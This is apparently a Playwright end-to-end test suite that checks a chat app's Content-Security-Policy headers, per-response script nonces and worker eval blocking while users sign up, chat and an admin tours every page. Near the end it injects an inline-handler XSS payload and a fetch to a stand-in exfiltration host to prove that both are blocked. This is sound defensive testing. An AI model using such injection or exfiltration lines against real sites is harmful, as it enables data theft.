/**
 * Security headers, end to end in Chromium: every page is served with a strict
 * Content-Security-Policy whose nonce is fresh per response and is the one on the
 * page's scripts; the Web Workers get their own policy (WebAssembly yes, eval no).
 * Then two people sign up, chat, open a safety number (its QR code is a data: image)
 * and the admin tours every page, while every CSP violation the browser reports is
 * collected two ways (console messages, including the workers', and a
 * `securitypolicyviolation` listener installed before any page script); none may
 * appear. Injected markup with an inline handler and a foreign fetch at the end prove
 * the collectors see violations (and that both are refused).
 */
import { expect, test, type Page, type Response } from "@playwright/test";
import pg from "pg";
import { message, newPage, send, signUp, uniqueName } from "./helpers";

/** The app's pages (apps/web/src/app/**\/page.tsx); /rooms/:id is visited while chatting. */
const PAGES = ["/", "/signup", "/login", "/rooms", "/devices", "/admin", "/compliance", "/disclose"];

declare global {
  interface Window {
    __cspViolations?: string[];
  }
}

/** directive name -> its sources */
function directives(csp: string): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const part of csp.split(";")) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) out.set(name, sources);
  }
  return out;
}

/** Asserts the page policy of a response (a page's or an API request's); returns its nonce. */
function expectPagePolicy(res: Pick<Response, "headers" | "url">): string {
  const headers = res.headers();
  const csp = headers["content-security-policy"];
  expect(csp, `CSP on ${res.url()}`).toBeTruthy();
  const d = directives(csp ?? "");
  const script = d.get("script-src") ?? [];
  const nonce = /^'nonce-([A-Za-z0-9+/=]{16,})'$/.exec(script.find((s) => s.startsWith("'nonce-")) ?? "")?.[1];
  expect(nonce, `script-src nonce on ${res.url()}: ${script.join(" ")}`).toBeTruthy();
  expect(script).toContain("'strict-dynamic'");
  expect(script).not.toContain("'unsafe-inline'");
  expect(script).not.toContain("'unsafe-eval'");
  expect(d.get("default-src")).toEqual(["'self'"]);
  expect(d.get("object-src")).toEqual(["'none'"]);
  expect(d.get("base-uri")).toEqual(["'none'"]);
  expect(d.get("frame-ancestors")).toEqual(["'none'"]);
  expect(d.get("style-src-elem")).not.toContain("'unsafe-inline'");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("no-referrer");
  expect(headers["permissions-policy"]).toContain("camera=()");
  // Served over http here (CAIRN_PUBLIC_URL is not https): no HSTS.
  expect(headers["strict-transport-security"]).toBeUndefined();
  return nonce ?? "";
}

interface Collected {
  console: string[];
}

/** Collects CSP reports of `page`: console messages (page and workers) and the in-page listener. */
async function watchCsp(page: Page): Promise<Collected> {
  const collected: Collected = { console: [] };
  page.on("console", (msg) => {
    if (/Content.Security.Policy/i.test(msg.text())) collected.console.push(`${page.url()}: ${msg.text()}`);
  });
  await page.addInitScript(() => {
    window.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (e) => {
      window.__cspViolations?.push(`${e.effectiveDirective} blocked ${e.blockedURI || "(none)"} on ${location.pathname}`);
    });
  });
  return collected;
}

/** The violations the in-page listener saw in the current document. */
async function pageViolations(page: Page): Promise<string[]> {
  return page.evaluate(() => window.__cspViolations ?? []);
}

/** Opens `path`, asserts its policy, waits for the page to settle and returns its in-page violations. */
async function visit(page: Page, path: string): Promise<string[]> {
  const res = await page.goto(path);
  expect(res, path).not.toBeNull();
  expectPagePolicy(res as Response);
  await page.waitForLoadState("load");
  await expect(page.locator("main").first()).toBeVisible();
  return pageViolations(page);
}

test("every page carries a strict CSP whose nonce is fresh and is the one on its scripts", async ({ browser }) => {
  const page = await newPage(browser);
  const nonces = new Set<string>();
  for (const path of PAGES) {
    const res = await page.request.get(path, { maxRedirects: 0 });
    // "/" redirects to /rooms; the redirect itself carries the policy too.
    const nonce = expectPagePolicy(res);
    nonces.add(nonce);
    if (res.status() === 200) {
      const html = await res.text();
      expect(html, `scripts of ${path} carry the nonce`).toContain(`nonce="${nonce}"`);
      expect(html.match(/<script\b[^>]*>/g)?.every((tag) => tag.includes(`nonce="${nonce}"`)), `every script of ${path}`).toBe(true);
    }
  }
  expect(nonces.size, "one nonce per response").toBe(PAGES.length);
});

test("no CSP violation while two people sign up, chat and an admin visits every page", async ({ browser }) => {
  const db = new pg.Client({ connectionString: process.env.CAIRN_E2E_DATABASE_URL });
  await db.connect();
  try {
    const alice = await newPage(browser);
    const bob = await newPage(browser);
    const aliceName = uniqueName("alice");
    const bobName = uniqueName("bob");
    const roomName = uniqueName("csp-");
    const seen = { alice: await watchCsp(alice), bob: await watchCsp(bob) };
    const inPage: string[] = [];
    const workerPolicies: string[] = [];
    alice.on("response", (res) => {
      if (/\/turbopack-worker-[\w-]+\.js/.test(res.url())) workerPolicies.push(res.headers()["content-security-policy"] ?? "");
    });

    await signUp(alice, aliceName);
    inPage.push(...(await pageViolations(alice)));
    await signUp(bob, bobName);
    inPage.push(...(await pageViolations(bob)));
    // Alice is granted admin as an operator would, so /admin and /compliance render in full.
    await db.query(`UPDATE "User" SET role = 'admin' WHERE username = $1`, [aliceName]);

    await alice.getByTestId("new-room-name").fill(roomName);
    await alice.getByTestId("new-room-members").fill(bobName);
    await alice.getByTestId("create-room").click();
    await expect(alice.getByTestId("room-title")).toHaveText(roomName);
    await expect(alice.getByTestId("composer-input")).toBeEnabled();
    await send(alice, "hello bob, under a strict policy");
    await bob.locator(`[data-testid="room-link"][data-room-name="${roomName}"]`).click();
    await expect(message(bob, "hello bob, under a strict policy")).toBeVisible();
    await send(bob, "hi alice, nothing was blocked");
    await expect(message(alice, "hi alice, nothing was blocked")).toBeVisible();
    await expect(message(alice, "hi alice, nothing was blocked").getByTestId("message-status")).toHaveText(/^(anchored|verified) · checkpoint/, {
      timeout: 60_000,
    });

    // The safety number's QR code is a data: image.
    await alice.locator(`[data-testid="member"][data-username="${bobName}"]`).click();
    await expect(alice.getByTestId("safety-qr")).toBeVisible();
    await alice.getByTestId("safety-close").click();

    // The workers run under their own policy: WebAssembly (libsodium) yes, eval no.
    expect(workerPolicies.length, "the crypto worker's script was fetched").toBeGreaterThan(0);
    for (const policy of workerPolicies) {
      const d = directives(policy);
      expect(d.get("script-src")).toEqual(["'self'", "'wasm-unsafe-eval'"]);
      expect(d.get("default-src")).toEqual(["'none'"]);
    }
    const workers = alice.workers();
    expect(workers.length).toBeGreaterThan(0);
    for (const worker of workers) {
      const probe = await worker.evaluate(async () => {
        await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
        try {
          (0, eval)("1");
          return "eval allowed";
        } catch {
          return "eval blocked";
        }
      });
      expect(probe, worker.url()).toBe("eval blocked");
    }
    inPage.push(...(await pageViolations(alice)), ...(await pageViolations(bob)));

    for (const path of PAGES) {
      inPage.push(...(await visit(alice, path)));
      // The admin sees the full audit pages (their charts included), bob the refusal.
      if (path === "/admin") await expect(alice.getByTestId("lag-chart")).toBeVisible();
      inPage.push(...(await pageViolations(alice)));
      inPage.push(...(await visit(bob, path)));
      if (path === "/compliance") await expect(bob.getByTestId("forbidden")).toBeVisible();
    }

    expect(inPage, "securitypolicyviolation events").toEqual([]);
    expect([...seen.alice.console, ...seen.bob.console], "CSP console messages").toEqual([]);

    // The collectors do see violations: markup injected with an inline event handler
    // (the classic XSS) does not run, and a fetch to a foreign origin is refused.
    await alice.evaluate(() => {
      const box = document.createElement("div");
      box.innerHTML = '<img src="data:," onerror="window.__injected = true">';
      document.body.append(box);
      void fetch("https://exfiltration.invalid/keys").catch(() => undefined);
    });
    await expect
      .poll(() => pageViolations(alice))
      .toEqual(expect.arrayContaining(["script-src-attr blocked inline on /disclose", expect.stringMatching(/^connect-src blocked https:\/\/exfiltration\.invalid/)]));
    await expect.poll(() => seen.alice.console.length).toBeGreaterThanOrEqual(2);
    expect(await alice.evaluate(() => (window as { __injected?: boolean }).__injected)).toBeUndefined();
  } finally {
    await db.end();
  }
});
